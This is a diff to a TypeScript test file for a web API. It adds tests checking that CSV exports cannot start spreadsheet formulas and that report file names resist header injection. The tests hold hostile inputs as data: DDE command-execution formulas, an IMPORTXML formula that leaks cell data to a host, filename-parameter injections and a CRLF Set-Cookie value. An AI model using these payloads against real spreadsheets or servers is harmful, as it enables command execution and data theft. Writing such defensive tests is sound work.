@@ -1,6 +1,7 @@
 // Security properties beyond the access matrix: bodies refused before they cost anything (too deep,
 // too large), secrets compared in constant time and kept only as hashes, CSV that a sheet cannot
-// evaluate, and codes that look like SQL stored exactly as given.
+// evaluate, report file names that codes cannot break, and codes that look like SQL stored exactly
+// as given.
 import { env } from 'cloudflare:workers'
 import fc from 'fast-check'
 import Papa from 'papaparse'
@@ -154,13 +155,22 @@ describe('secrets', () => {
 })
 
 describe('CSV output for =IMPORTDATA', () => {
-  const trigger = /^[=+\-@\t\r]/
+  // Written apart from src/lib/formula-guard.ts, as a list: what may hide a formula sign, and the signs.
+  const hiding = [' ', '\u00A0', '\u2000', '\u2007', '\u200A', '\u202F', '\u205F', '\u3000', '\t', '\n', '\r', '\v', '\f', '\u0085', '\u2028', '\u2029',
+    '\u200B', '\u200C', '\u200D', '\u200E', '\u200F', '\u2060', '\uFEFF', '\u00AD', '\u180E', '\u061C',
+    '\u202A', '\u202B', '\u202C', '\u202D', '\u202E', '\u2066', '\u2067', '\u2068', '\u2069', '\u3164', '\u2800', '\uFE0F']
+  const signs = ['=', '+', '-', '@', '＝', '＋', '－', '＠', '﹦', '﹢', '﹣', '﹫']
+  const hidden = new RegExp(`^[${hiding.join('')}]*`, 'u')
+  /** Whether a sheet could take the cell for a formula: a sign, after whatever may hide it. */
+  const opensFormula = (cell: string) => /^[\t\r]/.test(cell) || signs.includes(cell.replace(hidden, '').charAt(0))
 
   it('no text cell can start a formula, and the text survives a round trip behind its quote mark', () => {
     const risky = fc.oneof(
       fc.string({ unit: 'binary', maxLength: 20 }),
       fc.tuple(fc.constantFrom('=', '+', '-', '@', '\t', '\r', '\n', '"', ',', "'"), fc.string({ unit: 'binary', maxLength: 20 })).map(([a, b]) => a + b),
-      fc.constantFrom('=HYPERLINK("http://x","y")', "=cmd|'/c calc'!A0", '@SUM(1+1)*cmd|" /C calc"!A0', '-2+3', '+1'),
+      // A sign behind up to three hiding characters (or none), full-width signs included.
+      fc.tuple(fc.array(fc.constantFrom(...hiding), { maxLength: 3 }), fc.constantFrom(...signs), fc.string({ unit: 'binary', maxLength: 12 })).map(([lead, sign, rest]) => lead.join('') + sign + rest),
+      fc.constantFrom('=HYPERLINK("http://x","y")', "=cmd|'/c calc'!A0", '@SUM(1+1)*cmd|" /C calc"!A0', '-2+3', '+1', '+IMPORTXML("http://x/?"&A1,"//a")', '\u202E=1', '\u3000＝1'),
     )
     fc.assert(
       fc.property(fc.array(fc.array(fc.oneof(risky, fc.double({ noNaN: true, noDefaultInfinity: true }), fc.integer(), fc.constant(null)), { minLength: 1, maxLength: 5 }), { minLength: 1, maxLength: 5 }), (rows) => {
@@ -172,8 +182,12 @@ describe('CSV output for =IMPORTDATA', () => {
           row.forEach((value, c) => {
             const cell = parsed[r]![c]!
             if (typeof value === 'string') {
-              expect(trigger.test(cell)).toBe(false)
-              expect(cell).toBe(trigger.test(value) ? `'${value}` : value)
+              expect(opensFormula(cell), JSON.stringify(cell)).toBe(false)
+              // The same text, behind a quote mark at most; always behind one when it could be a formula.
+              expect([value, `'${value}`]).toContain(cell)
+              if (opensFormula(value)) expect(cell).toBe(`'${value}`)
+              // Text that opens with a visible letter or digit is never touched (a Hangul filler is a letter that shows nothing).
+              if (/^(?!\p{Default_Ignorable_Code_Point})[\p{L}\p{N}]/u.test(value)) expect(cell).toBe(value)
             } else {
               expect(cell).toBe(value === null ? '' : String(value))
             }
@@ -183,6 +197,32 @@ describe('CSV output for =IMPORTDATA', () => {
       { numRuns: RUNS },
     )
     expect(csvCell(-5)).toBe('-5') // numbers stay numbers
+  })
+})
+
+describe('report file names', () => {
+  // RFC 6266: a quoted ASCII fallback without `"`, `\\`, `;` or `%`, and the exact name in filename*.
+  const shape = /^inline; filename="([\x20-\x21\x23-\x24\x26-\x3A\x3C-\x5B\x5D-\x7E]*)"; filename\*=UTF-8''([A-Za-z0-9!#$&+\-.^_`|~%]+)$/
+
+  it('carry hostile region codes quoted and percent-encoded, never as a parameter or raw bytes', async () => {
+    const codes = ['X";foo=bar', '华东', 'a\\"b;filename=evil.exe', "x'(*)%41"]
+    await expectOk(call('PUT', '/v1/regions', { body: { regions: codes.map((code) => ({ code, name: '华东区' })) } }))
+    for (const code of codes) {
+      const res = await call('GET', `/v1/reports/consolidated?year=2026&month=3&regionCode=${encodeURIComponent(code)}&format=csv`)
+      expect(res.status, res.text).toBe(200)
+      const header = res.headers.get('content-disposition') ?? ''
+      const [, fallback, encoded] = shape.exec(header) ?? []
+      expect(fallback, header).toBeDefined()
+      expect(decodeURIComponent(encoded!)).toBe(`consolidated-2026-3-${code}.csv`)
+    }
+    const injected = await call('GET', `/v1/reports/consolidated?year=2026&month=3&regionCode=${encodeURIComponent('X";foo=bar')}&format=csv`)
+    expect(injected.headers.get('content-disposition')).toBe(`inline; filename="consolidated-2026-3-X__foo=bar.csv"; filename*=UTF-8''consolidated-2026-3-X%22%3Bfoo%3Dbar.csv`)
+    const chinese = await call('GET', `/v1/reports/consolidated?year=2026&month=3&regionCode=${encodeURIComponent('华东')}&format=csv`)
+    expect(chinese.headers.get('content-disposition')).toBe(`inline; filename="consolidated-2026-3-__.csv"; filename*=UTF-8''consolidated-2026-3-%E5%8D%8E%E4%B8%9C.csv`)
+    // A line break cannot reach the header: it is no code, so the request is refused first.
+    const broken = await call('GET', `/v1/reports/consolidated?year=2026&month=3&regionCode=${encodeURIComponent('X\r\nSet-Cookie: a=1')}&format=csv`)
+    expect(broken.status).toBe(422)
+    expect(broken.headers.get('content-disposition')).toBeNull()
   })
 })
 
